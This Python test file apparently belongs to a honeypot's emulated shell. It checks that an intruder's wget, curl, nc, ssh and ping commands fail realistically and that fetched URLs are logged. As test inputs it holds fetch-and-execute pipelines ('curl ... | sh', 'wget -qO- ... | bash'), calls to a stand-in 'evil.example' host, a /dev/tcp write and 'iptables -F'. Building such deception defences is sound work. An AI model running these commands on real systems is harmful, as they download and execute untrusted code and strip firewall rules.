# ruff: noqa: E501 (what real programs print is not broken into shorter lines)
"""Downloads and connections of a visitor: they fail as in a network that drops what leaves it, at the same
time as the real programs, and are recorded. The texts were recorded in a namespace whose gateway drops
everything."""

from __future__ import annotations

import importlib
import json
import os
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from inside import Inside

from decnet.decoys.events import Recorder
from decnet.decoys.host.world import World
from decnet.decoys.persona import Persona
from decnet.decoys.shell.at_once import run_at_once
from decnet.decoys.shell.commands import MODULES
from decnet.decoys.shell.descriptors import End, Stream
from decnet.decoys.shell.engine import Engine
from decnet.decoys.shell.evaluator import Evaluator
from decnet.decoys.shell.net.reach import MOST_REQUESTS
from decnet.decoys.shell.state import Answer, Shell


class Visitor:
    """A shell with the events of its visit."""

    def __init__(self, release: str = "debian-12", port: int = 22) -> None:
        self._out, self._into = os.pipe()
        os.set_blocking(self._out, False)
        persona = Persona(
            "ssh", "web01", "linux", release, "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3", "ab" * 16,
            ((port, "tcp"),), {}, "192.168.1.20", "00:50:56:01:02:03",
        )  # fmt: skip
        world = World(persona)
        self.shell = Shell(world, "root", Recorder(self._into).session("192.168.1.9", 40000))

    def run(self, line: str) -> Answer:
        answer = run_at_once(self.shell, line)
        stamps = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d")
        return Answer(answer.out, stamps.sub("NOW", answer.error), answer.status, answer.delay)

    def requests(self) -> list[dict[str, Any]]:
        os.set_blocking(self._out, False)
        lines = os.read(self._out, 1 << 20).splitlines()
        found = [json.loads(line) for line in lines]
        return [
            each["fields"] for each in found if each["kind"] == "request" and "folded" not in each["fields"]
        ]

    def close(self) -> None:
        os.close(self._out)
        os.close(self._into)


@pytest.fixture
def visitor() -> Iterator[Callable[..., Visitor]]:
    made: list[Visitor] = []

    def make(*arguments: Any, **named: Any) -> Visitor:
        made.append(Visitor(*arguments, **named))
        made[-1].shell.world.namespace = "/nonexistent"
        return made[-1]

    yield make
    for each in made:
        each.close()


WGET = """--NOW--  http://203.0.113.5/x
Connecting to 203.0.113.5:80... failed: Connection timed out.
Retrying.

--NOW--  (try: 2)  http://203.0.113.5/x
Connecting to 203.0.113.5:80... failed: Connection timed out.
Giving up.

"""
WGET_NAME = """--NOW--  http://evil.example/x
Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.
wget: unable to resolve host address ‘evil.example’
"""
LATE = "curl: (28) Failed to connect to 203.0.113.5 port 80 after 5001 ms: Timeout was reached\n"
NO_PING = "PING 203.0.113.5 (203.0.113.5) 56(84) bytes of data.\n\n--- 203.0.113.5 ping statistics ---\n4 packets transmitted, 0 received, 100% packet loss, time N\n\n"


@pytest.mark.parametrize(
    ("line", "out", "error", "status", "seconds"),
    [
        ("wget -t 2 -T 6 http://203.0.113.5/x", "", WGET, 4, 13.0),
        ("wget http://evil.example/x", "", WGET_NAME, 4, 10.0),
        ("wget -q -t1 -T3 http://203.0.113.5/x", "", "", 4, 3.0),
        ("wget -nv -t2 -T1 http://203.0.113.5/x", "", "failed: Connection timed out.\n" * 2, 4, 3.0),
        ("wget -t3 http://192.168.1.77/", "", "--NOW--  http://192.168.1.77/\nConnecting to 192.168.1.77:80... failed: No route to host.\n", 4, 3.06),
        ("wget -O /nope/x http://1.2.3.4/", "", "/nope/x: No such file or directory\n", 1, 0.0),
        ("curl -sS --connect-timeout 5 http://203.0.113.5/x", "", LATE, 28, 5.0),
        ("curl -sS -m 7 http://203.0.113.5/", "", "curl: (28) Connection timed out after 7001 milliseconds\n", 28, 7.0),
        ("curl -sS -m 3 https://evil.example/x", "", "curl: (28) Resolving timed out after 3000 milliseconds\n", 28, 3.0),
        ("curl -s evil.example", "", "", 6, 9.95),
        ("curl -fsSL http://192.168.1.77/x | sh; echo ${PIPESTATUS[*]}", "7 0\n", "curl: (7) Failed to connect to 192.168.1.77 port 80 after 3060 ms: Couldn't connect to server\n", 0, 3.06),
        ("curl -s localhost:99; echo $?", "7\n", "", 0, 0.0),
        ("curl", "", "curl: try 'curl --help' or 'curl --manual' for more information\n", 2, 0.0),
        ("curl --foo", "", "curl: option --foo: is unknown\ncurl: try 'curl --help' or 'curl --manual' for more information\n", 2, 0.0),
        ("curl -s -o /dev/null -w '%{http_code}\\n' -m2 http://203.0.113.5/", "000\n", "", 28, 2.0),
        ("nc -v -w 3 203.0.113.5 80", "", "nc: connect to 203.0.113.5 port 80 (tcp) timed out: Operation now in progress\n", 1, 3.0),
        ("nc -zv localhost 98-99", "", "nc: connect to localhost (127.0.0.1) port 98 (tcp) failed: Connection refused\nnc: connect to localhost (127.0.0.1) port 99 (tcp) failed: Connection refused\n", 1, 0.0),
        ("nc -w 1 localhost 22", "SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n", "", 0, 1.0),
        ("telnet localhost 99", "Trying 127.0.0.1...\n", "telnet: Unable to connect to remote host: Connection refused\n", 1, 0.0),
        ("ssh -o ConnectTimeout=4 root@203.0.113.5 id", "", "ssh: connect to host 203.0.113.5 port 22: Connection timed out\r\n", 255, 4.0),
        ("scp -o ConnectTimeout=3 root@203.0.113.5:/x .", "", "ssh: connect to host 203.0.113.5 port 22: Connection timed out\r\nscp: Connection closed\r\n", 255, 3.0),
        ("ssh root@evil.example id", "", "ssh: Could not resolve hostname evil.example: Temporary failure in name resolution\r\n", 255, 10.0),
        ("ping -c1 evil.example", "", "ping: evil.example: Temporary failure in name resolution\n", 2, 10.0),
        ("ping -w 4 203.0.113.5 | sed 's/time .*/time N/'", NO_PING, "", 0, 4.0),
        ("host evil.example 1.1.1.1", ";; communications error to 1.1.1.1#53: timed out\n" * 2 + ";; no servers could be reached\n", "", 1, 10.0),
        ("echo x > /dev/tcp/192.168.1.77/80; echo $?", "1\n", "bash: connect: No route to host\nbash: line 1: /dev/tcp/192.168.1.77/80: No route to host\n", 0, 3.06),
        ("nft list ruleset; iptables -F", "", "bash: line 1: iptables: command not found\n", 127, 0.0),
    ],
)  # fmt: skip
def test_a_dropped_packet_looks_like_one(
    visitor: Callable[..., Visitor], line: str, out: str, error: str, status: int, seconds: float
) -> None:
    answer = visitor().run(line)

    assert (answer.out, answer.error, answer.status) == (out, error, status)
    assert answer.delay == pytest.approx(seconds, abs=0.5)


@pytest.mark.parametrize(
    ("line", "out", "error", "status", "seconds"),
    [
        ("wget http://203.0.113.5/x -T 9", "", "Connecting to 203.0.113.5 (203.0.113.5:80)\nwget: download timed out\n", 1, 9.0),
        ("wget http://evil.example/x", "", "wget: bad address 'evil.example'\n", 1, 10.0),
        ("tftp -g -r x 203.0.113.5; test -e x", "", "tftp: timeout\n", 1, 13.0),
        ("busybox ftpget -v 192.168.1.77 x y", "Connecting to 192.168.1.77 (192.168.1.77:21)\n", "ftpget: can't connect to remote host (192.168.1.77): No route to host\n", 1, 3.06),
        ("nc 127.0.0.1 80", "", "nc: can't connect to remote host (127.0.0.1): Connection refused\n", 1, 0.0),
        ("ping -c 2 203.0.113.5", "PING 203.0.113.5 (203.0.113.5): 56 data bytes\n\n--- 203.0.113.5 ping statistics ---\n2 packets transmitted, 0 packets received, 100% packet loss\n", "", 1, 11.0),
    ],
)  # fmt: skip
def test_a_device_has_the_texts_of_busybox(
    visitor: Callable[..., Visitor], line: str, out: str, error: str, status: int, seconds: float
) -> None:
    answer = visitor("busybox-camera").run(line)

    assert (answer.out, answer.error, answer.status) == (out, error, status)
    assert answer.delay == pytest.approx(seconds, abs=0.5)


def test_rocky_finds_no_mirror_and_debian_no_dnf(visitor: Callable[..., Visitor]) -> None:
    rocky = visitor("rocky-9").run("dnf install -y gcc")

    assert rocky.error.endswith("[Could not resolve host: mirrors.rockylinux.org]\n")
    assert (rocky.status, rocky.delay) == (1, pytest.approx(40.0, abs=0.5))
    assert visitor().run("yum install -y gcc").error == "bash: line 1: yum: command not found\n"


def test_a_whole_connect_takes_as_long_as_the_kernel_tries(visitor: Callable[..., Visitor]) -> None:
    shell = visitor().shell
    engine = Engine(strict=True)
    engine.input = Stream(b"", ended=True)
    fds: dict[int, End] = {0: engine.input, 1: engine.screen(1), 2: engine.screen(2)}
    engine.main = engine.spawn(shell, Evaluator(engine, shell, fds).script("nc 203.0.113.5 80"), fds)
    engine.step(0.05)
    wake = engine.next_wake()

    assert wake is not None and 125 < wake - engine.now() < 135


def test_every_url_is_recorded_wherever_it_stands(visitor: Callable[..., Visitor]) -> None:
    one = visitor()
    one.run("sh -c 'wget -q -T1 -t1 http://1.2.3.4/a -O /tmp/a'; x=$(curl -s -m1 http://1.2.3.4/b)")
    one.run(
        "cd /tmp; curl -sO -m1 http://1.2.3.4/c | sh; wget -qO- -T1 -t1 1.2.3.4/d | bash; scp -o ConnectTimeout=1 u@h.example:/e ."
    )

    assert [(each["tool"], each["url"], each["output"]) for each in one.requests()] == [
        ("wget", "http://1.2.3.4/a", "/tmp/a"),
        ("curl", "http://1.2.3.4/b", "-"),
        ("curl", "http://1.2.3.4/c", "/tmp/c"),
        ("wget", "1.2.3.4/d", "-"),
        ("scp", "scp://u@h.example:/e", "/tmp"),
    ]


def test_requests_of_a_visit_are_bounded(visitor: Callable[..., Visitor]) -> None:
    one = visitor()
    for _ in range(4):
        one.run("for i in $(seq 100); do curl -s localhost:99/$i; done")

    assert len(one.requests()) == MOST_REQUESTS


def test_a_file_that_is_not_fetched_is_empty_as_the_real_one(visitor: Callable[..., Visitor]) -> None:
    one = visitor()
    one.run(
        "mkdir /tmp/w; cd /tmp/w; wget -q -T1 -t1 http://1.2.3.4/a -O named; wget -q -T1 -t1 http://1.2.3.4/b; curl -s -m1 -o c http://1.2.3.4/c"
    )

    assert one.run("cd /tmp/w; ls; stat -c %s named").out == "named\n0\n"


def test_ping_ends_with_its_statistics_when_it_is_interrupted(visitor: Callable[..., Visitor]) -> None:
    shell = visitor().shell
    engine = Engine(strict=True)
    engine.input = Stream(b"", ended=True)
    fds: dict[int, End] = {0: engine.input, 1: engine.screen(1), 2: engine.screen(2)}
    engine.main = engine.spawn(shell, Evaluator(engine, shell, fds).script("ping 203.0.113.5"), fds)
    engine.step(0.05)
    engine.skip(1.0)
    engine.step(0.05)
    engine.press(2)
    engine.step(0.05)
    shown = b"".join(data for _, data in engine.take_output()).decode()

    assert "2 packets transmitted, 0 received, 100% packet loss" in shown
    assert engine.is_over and engine.main.status == 1


def test_the_machine_shows_its_own_site(
    visitor: Callable[..., Visitor], inside: Callable[..., Inside]
) -> None:
    site = inside("http", settings={"site": "company", "title": "Halden"})
    one = visitor(port=site.port)
    page = site.ask(b"GET / HTTP/1.0\r\n\r\n").partition(b"\r\n\r\n")[2].decode()
    seen = one.run(
        f"curl -s 127.0.0.1:{site.port}; wget -qO- http://192.168.1.20:{site.port}/; curl -s -o /dev/null -w '%{{http_code}}' http://localhost:{site.port}/nope"
    )

    assert seen.out == page + page + "404" and "Halden" in page
    assert len(site.events("contact")) == 1


def test_a_saved_page_is_a_file(visitor: Callable[..., Visitor], inside: Callable[..., Inside]) -> None:
    site = inside("http", settings={"site": "default"})
    one = visitor(port=site.port)
    seen = one.run(
        f"cd /tmp; wget -nv 127.0.0.1:{site.port}; curl -s localhost:{site.port} | cmp - index.html && echo same"
    )

    assert seen.out == "same\n"


@pytest.mark.parametrize(
    "path", sorted(Path(__file__).parents[2].glob("decnet/decoys/shell/net/*.py")), ids=lambda path: path.name
)
def test_no_command_opens_a_connection(path: Path) -> None:
    """The only sockets are those of insiders.py, which are Unix sockets."""
    text = path.read_text(encoding="utf-8")

    assert not re.search(
        r"socket\.socket|create_connection|open_connection|urllib|http\.client|subprocess|os\.system", text
    )


@pytest.mark.parametrize("module", [module for module in MODULES if module.startswith("net.")])
def test_the_table_names_what_is_there(module: str) -> None:
    commands = importlib.import_module(f"decnet.decoys.shell.{module}").COMMANDS

    assert set(MODULES[module].split()) <= set(commands)
